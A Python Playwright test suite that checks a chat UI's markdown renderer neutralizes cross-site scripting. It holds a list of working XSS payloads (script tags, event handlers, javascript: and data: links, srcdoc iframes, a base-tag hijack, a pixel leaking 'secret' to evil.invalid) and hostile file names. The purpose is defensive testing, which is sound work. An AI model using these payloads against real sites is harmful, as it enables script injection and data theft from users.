"""Hostile content renders inert, wherever it comes from: the model's answer, the text of documents (which
reaches answers, citations and previews), and file names and titles.

The model here is the stand-in (harness.py) streaming the payloads as its completion: a real model cannot be
made to write them on demand, and what is under test is the UI's renderer, not the model. Every payload would
set `window.__xss` or open a dialog if it ran, or would make the browser fetch from a foreign host if it loaded.
A listener installed before the page's own scripts records any Content-Security-Policy violation: there must be
none, because the renderer neutralizes the payloads before the policy would have to. The renderer is also run on
the raw payloads (which the platform's own answer sanitizer never lets through) with the policy switched off.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route, expect

from groundwork.serving.testing import repeat_sources

from .harness import ModelStandIn, Site, ask, create_datastore, pick_datastores, sign_in, upload

RUN = "window.__xss=(window.__xss||0)+1"
EVIL = "https://evil.invalid"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<img src="{EVIL}/img.png" onerror="{RUN}">',
    "<img src=x onerror=alert(1)>",
    f'<svg onload="{RUN}"><circle r="10"/></svg>',
    f'<svg><a href="javascript:{RUN}"><text y="20">svg link</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f"[click me](javascript:{RUN})",
    f"[spaced](  JaVaScRiPt:{RUN}  )",
    f"[entity](javascript&#58;{RUN})",
    f'<a href="javascript:{RUN}">anchor</a>',
    f"![tracker]({EVIL}/pixel.png?leak=secret)",
    "![inline](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[ref link][evil]\n\n[evil]: javascript:{RUN}",
    f"<{EVIL}/autolink>",
    f'<details open ontoggle="{RUN}">details</details>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<object data="javascript:{RUN}"></object><embed src="{EVIL}/embed">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<link rel="stylesheet" href="{EVIL}/x.css"><style>@import "{EVIL}/y.css";</style>',
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    f'<base href="{EVIL}/">',
    f"`<script>{RUN}</script>` in code and\n\n```html\n<script>{RUN}</script>\n```",
]
INIT = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
"""
INERT_CHECK = """(selector) => {
  const found = [];
  for (const root of document.querySelectorAll(selector)) {
    for (const el of root.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'iframe', 'frame', 'object', 'embed', 'img', 'style', 'link', 'base', 'math',
           'image', 'video', 'audio', 'source', 'meta'].includes(tag)) found.push('<' + tag + '>');
      if (tag === 'svg' && !el.classList.contains('icon')) found.push('<svg> from content');
      for (const attr of el.getAttributeNames()) {
        if (attr.startsWith('on') || ['srcdoc', 'style', 'src', 'action', 'formaction', 'xlink:href'].includes(attr))
          found.push(tag + '[' + attr + ']');
      }
      const href = el.getAttribute('href');
      if (href !== null && !/^(https?:|mailto:|blob:)/i.test(href)) found.push(tag + '[href=' + href + ']');
    }
  }
  return found;
}"""
CONTENT = (
    ".answer-body, .answer-extras, #source-popover, #source-panel .panel-body, .message.user, "
    ".conversation-list, .upload-list, .document-list"
)


@dataclass
class Watch:
    """What a page did that it should not: dialogs opened, requests to other hosts."""

    origin: str
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)


@pytest.fixture
def watch(context: BrowserContext, site: Site) -> Watch:
    seen = Watch(site.url)
    context.add_init_script(INIT)

    def route(route: Route) -> None:
        url = route.request.url
        if url.startswith((site.url + "/", "blob:", "data:")):
            route.continue_()
        else:
            seen.foreign.append(url)
            route.abort()

    context.route("**/*", route)

    def dialog(opened: Dialog) -> None:
        seen.dialogs.append(opened.message)
        opened.dismiss()

    context.on("dialog", dialog)
    return seen


def assert_inert(page: Page, watch: Watch) -> None:
    page.wait_for_timeout(300)  # an error handler or a load would have fired by now
    assert page.evaluate("window.__xss") is None, "a payload ran"
    assert watch.dialogs == [], f"a payload opened a dialog: {watch.dialogs}"
    assert [u for u in watch.foreign if not u.startswith(watch.origin)] == [], "a payload loaded from elsewhere"
    assert page.evaluate("window.__csp") == [], "the policy had to block something the renderer let through"
    assert page.evaluate(INERT_CHECK, CONTENT) == []


def test_a_model_writing_payloads_renders_inert(page: Page, watch: Watch, site: Site, model: ModelStandIn) -> None:
    model.reply = lambda messages: "\n\n".join([*PAYLOADS, "END-OF-PAYLOADS", "and more text " * 200])
    model.delay = 0.01
    model.chunk_chars = 16
    sign_in(page, site.admin_key)
    pick_datastores(page, site, {"ops"})
    page.get_by_label("Ask a question").fill("When is the metadata database backed up?")
    page.get_by_label("Ask a question").press("Enter")
    answer = page.locator(".message.assistant").first
    expect(answer).to_have_attribute("aria-busy", "false", timeout=60_000)  # unsupported: never shown, listed
    expect(answer.locator("details.removed")).to_contain_text("could not be verified")  # the first payloads
    assert_inert(page, watch)

    model.reply = lambda messages: "\n\n".join([repeat_sources(messages), *PAYLOADS])
    model.delay = 0.0
    ask(page, "When is the metadata database backed up?")  # the payloads are unsupported: listed as removed
    removed = page.locator(".message.assistant").last.locator("details.removed")
    removed.locator("summary").click()
    expect(removed).to_contain_text("<iframe srcdoc=")  # shown as the text it is
    assert_inert(page, watch)


@pytest.fixture(scope="module")
def hostile(site: Site) -> Iterator[str]:
    """A datastore whose documents carry the payloads in their text, titles, file names and source URI."""
    create_datastore(site.api, "hostile")
    body = "\n\n".join(f"The security team reviews every payload report within two days. {p}" for p in PAYLOADS)
    upload(
        site.api,
        "hostile",
        '<img src=x onerror="window.__xss=1">.md',
        f"# <svg onload=alert(1)> Payload policy\n\n## <img src=x onerror=alert(1)> Reviews\n\n{body}\n".encode(),
        source_uri=f"javascript:{RUN}",
    )
    upload(
        site.api,
        "hostile",
        "reviews.html",
        (
            f"<html><head><title>Reviews <script>{RUN}</script></title></head><body><h1>Payload reviews</h1>"
            f"<p>The security team reviews every payload report within two days.</p>{''.join(PAYLOADS)}</body></html>"
        ).encode(),
        mime="text/html",
        title=f'"><img src=x onerror="{RUN}"> Review handbook',
    )
    upload(site.api, "hostile", "<script>alert(1)</script>.pdf", b"%PDF-1.4 broken", mime="application/pdf")
    yield "hostile"


def test_documents_carrying_payloads_render_inert_in_answers_previews_and_lists(
    page: Page, watch: Watch, site: Site, model: ModelStandIn, hostile: str
) -> None:
    model.reply = lambda messages: (
        repeat_sources(messages) + f" [Open it](javascript:{RUN}) [1]."  # a link to the cited document's URI
    )
    sign_in(page, site.admin_key)
    pick_datastores(page, site, {hostile})
    question = f"How fast does the security team review payload reports? <img src=x onerror={RUN}>"
    ask(page, question)
    answer = page.locator(".message.assistant").last
    expect(answer.locator(".answer-body")).to_contain_text("within two days")
    expect(page.locator(".message.user").last).to_have_text(question)
    expect(page.locator(".conversation.current .conversation-title")).to_contain_text("<img src=x")
    markers = answer.locator(".answer-body .cite")
    for index in range(markers.count()):
        markers.nth(index).hover()
        expect(page.locator("#source-popover mark")).to_be_visible()
        assert_inert(page, watch)
        markers.nth(index).click()
        panel = page.locator("#source-panel")
        expect(panel.locator("mark")).to_be_visible()
        expect(panel.get_by_role("link", name="Open source")).to_have_count(0)  # never a javascript: link
        assert_inert(page, watch)
        page.keyboard.press("Escape")
    for link in answer.locator("a").all():
        assert (link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
    page.get_by_role("button", name="Documents").click()
    dialog = page.get_by_role("dialog", name="Documents")
    dialog.get_by_label("Datastore", exact=True).select_option(label=hostile)
    expect(dialog.locator(".document-list tbody tr")).to_have_count(3)
    expect(dialog.locator(".document-list")).to_contain_text("Review handbook")
    assert_inert(page, watch)
    zone = dialog.locator(".dropzone")
    transfer = page.evaluate_handle(
        """(name) => {
          const transfer = new DataTransfer();
          transfer.items.add(new File(['%PDF-1.4 x'], name, { type: 'application/pdf' }));
          return transfer;
        }""",
        f'<img src=x onerror="{RUN}">.pdf',
    )
    zone.dispatch_event("drop", {"dataTransfer": transfer})
    expect(dialog.locator(".upload").first).to_have_attribute("data-status", "failed")
    assert_inert(page, watch)


@pytest.fixture
def without_csp(browser: Browser, site: Site) -> Iterator[Page]:
    context = browser.new_context(base_url=site.url, bypass_csp=True)
    context.add_init_script(INIT)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("csp", ["enforced", "bypassed"])
def test_the_renderer_alone_neutralizes_raw_payloads(
    csp: str, page: Page, watch: Watch, without_csp: Page, site: Site
) -> None:
    """Raw payloads, as no server sanitizer would let through, straight into the markdown renderer."""
    target = page if csp == "enforced" else without_csp
    target.goto("/")
    expect(target.get_by_role("button", name="Sign in")).to_be_visible()
    target.evaluate(
        """async (payloads) => {
          const { renderMarkdown } = await import('/ui/src/markdown.js');
          const root = document.createElement('div');
          root.className = 'answer-body';
          for (const payload of payloads) root.append(renderMarkdown(payload, { citation: () => null }));
          document.body.append(root);
          for (const details of root.querySelectorAll('details')) details.open = true;
        }""",
        PAYLOADS,
    )
    assert target.locator(".answer-body").inner_text().count("<script>") >= 1  # shown, as text
    if csp == "enforced":
        assert_inert(target, watch)
    else:
        target.wait_for_timeout(300)
        assert target.evaluate("window.__xss") is None
        assert target.evaluate(INERT_CHECK, ".answer-body") == []
